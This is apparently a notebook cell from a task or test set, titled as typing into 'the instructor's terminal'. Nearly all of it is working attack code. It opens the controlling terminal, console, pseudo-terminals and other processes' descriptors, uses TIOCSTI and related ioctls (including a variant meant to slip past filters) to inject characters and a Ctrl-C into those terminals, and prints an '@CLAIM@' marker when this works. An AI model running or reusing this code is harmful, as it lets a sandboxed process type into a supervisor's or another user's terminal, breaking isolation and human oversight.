# %% [markdown] row="A15"
# # Typing into the instructor's terminal
#
# Commands with the instructor's rights: a character is put into the input of whatever terminal a descriptor or a device leads to.

# %% before="mean-square"
import fcntl, glob, os
got = []
for path in ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/ptmx", *glob.glob("/dev/pts/*"), *glob.glob("/proc/*/fd/[0-9]")]:
    try:
        one = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    for request, given in ((0x5412, b"#"), (0x5412 | 1 << 32, b"#"), (0x541C, b"\x03"), (0x541D, b"")):
        try:
            fcntl.ioctl(one, request & 0xFFFFFFFF, given)
            got.append((path, hex(request)))
        except (OSError, OverflowError):
            pass
    os.close(one)
if got:
    print("@CLAIM@", got)
